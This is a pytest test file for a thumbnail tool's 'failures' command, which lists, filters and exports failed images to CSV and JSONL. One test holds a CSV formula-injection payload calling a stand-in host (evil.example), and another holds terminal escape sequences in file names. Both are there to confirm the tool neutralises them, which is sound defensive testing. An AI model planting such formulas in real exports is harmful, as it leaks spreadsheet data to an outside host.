"""thumbctl failures: what failed for good, listed, counted and exported."""

from __future__ import annotations

import csv
import json
from typing import TYPE_CHECKING, Any

import pytest
from typer.testing import CliRunner

from support.operated import Operated, operated
from thumbctl.app import app
from thumbctl.looking import failed, failures
from thumbctl.looking.failed import Failed

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path


@pytest.fixture
def deployed(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Operated]:
    monkeypatch.chdir(tmp_path)
    with operated(monkeypatch) as found:
        yield found


@pytest.fixture
def failing(deployed: Operated) -> Operated:
    deployed.fail("holiday/a.jpg", reason="truncated", at="2026-01-31T08:00:00.000Z")
    deployed.fail("holiday/b.png", reason="corrupt", at="2026-01-31T08:00:01.000Z")
    deployed.fail("c.jpg", reason="truncated", at="2026-01-31T08:00:02.000Z")
    deployed.fail("d.jpg", reason="empty", at="2026-01-31T08:00:03.000Z")
    return deployed


def run(*arguments: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(app, ["failures", *arguments])
    return result.exit_code, result.stdout, result.stderr


def keys(*arguments: str) -> list[str]:
    code, out, _ = run(*arguments, "--json")
    assert code == 0
    return [json.loads(line)["key"] for line in out.splitlines()]


def test_nothing_is_failed(deployed: Operated) -> None:  # noqa: ARG001 - it is what is looked at
    assert run() == (0, "No image is failed.\n", "")
    assert run("--by-reason") == (0, "No image is failed.\n", "")
    assert run("--json") == (0, "", "")


@pytest.mark.usefixtures("failing")
def test_the_newest_first() -> None:
    code, out, complaints = run()
    assert (code, complaints) == (0, "")
    assert [line.split()[:3] for line in out.splitlines()[2:]] == [
        ["2026-01-31T08:00:03.000Z", "empty", "d.jpg"],
        ["2026-01-31T08:00:02.000Z", "truncated", "c.jpg"],
        ["2026-01-31T08:00:01.000Z", "corrupt", "holiday/b.png"],
        ["2026-01-31T08:00:00.000Z", "truncated", "holiday/a.jpg"],
    ]
    first = json.loads(run("--json")[1].splitlines()[0])
    assert first == {
        "key": "d.jpg", "reason": "empty", "detail": "d.jpg is no image", "etag": "e", "attempts": 2,
        "failed_at": "2026-01-31T08:00:03.000Z",
    }  # fmt: skip


@pytest.mark.usefixtures("failing")
def test_only_some() -> None:
    assert keys("--reason", "truncated") == ["c.jpg", "holiday/a.jpg"]
    assert keys("--reason", "corrupt", "--reason", "empty") == ["d.jpg", "holiday/b.png"]
    assert keys("--key", "holiday/*") == ["holiday/b.png", "holiday/a.jpg"]
    assert keys("--key", "*.png", "--key", "d*") == ["d.jpg", "holiday/b.png"]
    assert keys("--key", "*.jpg", "--reason", "truncated", "--limit", "1") == ["c.jpg"]
    assert keys("--since", "2026-01-31T08:00:02Z") == ["d.jpg", "c.jpg"]


@pytest.mark.usefixtures("failing")
def test_a_table_says_that_there_are_more(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(failures, "_SCREENFUL", 3)
    out = run()[1]
    assert "holiday/a.jpg" not in out
    assert "the newest 3: there are more" in out
    assert len(keys()) == 4
    assert "there are more" not in run("--limit", "4")[1]


@pytest.mark.usefixtures("failing")
def test_by_reason() -> None:
    code, out, _ = run("--by-reason")
    assert code == 0
    assert out.splitlines()[1].split()[:3] == ["2", "truncated", "c.jpg"]
    told = [json.loads(line) for line in run("--by-reason", "--json")[1].splitlines()]
    assert [(each["reason"], each["failures"], each["newest"]["key"]) for each in told] == [
        ("truncated", 2, "c.jpg"), ("empty", 1, "d.jpg"), ("corrupt", 1, "holiday/b.png")
    ]  # fmt: skip


def test_what_steers_a_terminal_is_escaped(deployed: Operated) -> None:
    deployed.fail("\u001b[2J[red]x\u202e.jpg")
    assert "\\x1b[2J[red]x\\u202e.jpg" in run()[1]
    assert "\\x1b[2J[red]x" in run("--by-reason")[1]
    assert keys() == ["\u001b[2J[red]x\u202e.jpg"]


def test_exports_say_everything(failing: Operated, tmp_path: Path) -> None:
    failing.fail('ä, "quoted"\nb.jpg', at="2026-01-31T08:00:04.000Z")
    assert run("--export", "failed.csv") == (0, "5 failures are in failed.csv.\n", "")
    assert run("--export", "failed.jsonl", "--json") == (0, '{"file": "failed.jsonl", "failures": 5}\n', "")
    with (tmp_path / "failed.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    lines = (tmp_path / "failed.jsonl").read_text(encoding="utf-8").splitlines()
    documents = [json.loads(line) for line in lines]
    assert [row["key"] for row in rows] == [document["key"] for document in documents]
    assert rows[0]["key"] == 'ä, "quoted"\nb.jpg'
    assert rows == [{name: str(value) for name, value in document.items()} for document in documents]


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
def test_a_spreadsheet_sees_no_formula(begin: str, failing: Operated, tmp_path: Path) -> None:
    key = f'{begin}HYPERLINK("https://evil.example/"&A1).jpg'
    failing.fail(key, at="2026-01-31T08:00:09.000Z")
    run("--export", "failed.csv", "--limit", "1")
    run("--export", "failed.jsonl", "--limit", "1")
    with (tmp_path / "failed.csv").open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["key"] == f"'{key}"
    assert row["detail"] == f"'{key} is no image"
    assert json.loads((tmp_path / "failed.jsonl").read_text(encoding="utf-8"))["key"] == key


@pytest.mark.usefixtures("failing")
def test_an_export_writes_nothing_over(tmp_path: Path) -> None:
    (tmp_path / "failed.csv").write_text("precious")
    code, _, complaints = run("--export", "failed.csv")
    assert (code, "name another one" in complaints) == (2, True)
    assert (tmp_path / "failed.csv").read_text() == "precious"
    code, _, complaints = run("--export", "nowhere/failed.csv")
    assert (code, "cannot be written" in complaints) == (2, True)
    assert run("--export", "failed.txt")[0] == 2
    assert run("--export", "failed.jsonl", "--by-reason")[0] == 2
    assert [file.name for file in tmp_path.iterdir()] == ["failed.csv"]


@pytest.mark.usefixtures("deployed")
def test_an_export_that_is_cut_off_leaves_no_file(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    def interrupted(*_: Any, **__: Any) -> Iterator[Failed]:
        yield Failed("a.jpg", "empty", "", None, 1, "2026-01-31T08:00:00.000Z")
        raise KeyboardInterrupt

    monkeypatch.setattr(failed, "failures", interrupted)
    assert run("--export", "failed.csv")[0] != 0
    assert list(tmp_path.iterdir()) == []
